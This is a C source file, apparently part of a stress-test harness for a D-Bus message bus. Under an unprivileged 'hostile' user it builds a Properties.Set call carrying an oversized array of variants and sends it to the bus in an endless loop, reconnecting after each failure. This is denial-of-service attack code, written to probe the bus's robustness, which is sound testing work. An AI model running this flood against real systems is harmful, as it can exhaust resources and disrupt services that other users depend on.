/* SPDX-License-Identifier: MIT */
#include "attack.h"

#include <stdlib.h>

/* Properties.Set of the bus with an array of --count variants, one call after the other. */
void large_set(void *argument)
{
    struct connection c = {0};
    struct buffer out = {0}, body = {0};
    (void)argument;
    hostile_set_uid();
    attack_join(&c);
    buffer_string(&body, BUS);
    buffer_string(&body, "Features");
    buffer_put(&body, "\2av", 4);
    buffer_u32(&body, 4u * (uint32_t)attack_options.count);
    for (int i = 0; i < attack_options.count; i++)
        buffer_put(&body, "\1y\0x", 4);
    put_message(&out,
                &(struct header){.type = CALL,
                                 .path = BUS_PATH,
                                 .interface = "org.freedesktop.DBus.Properties",
                                 .member = "Set",
                                 .destination = BUS,
                                 .signature = "ssv"},
                &body);
    process_ready();
    for (;;) {
        attack_pour(&c, &out);
        if (!connection_try(&c, attack_sync)) {
            hostile_connect(&c, connection_open);
            continue;
        }
        atomic_fetch_add(&shared->harm, 1);
    }
}
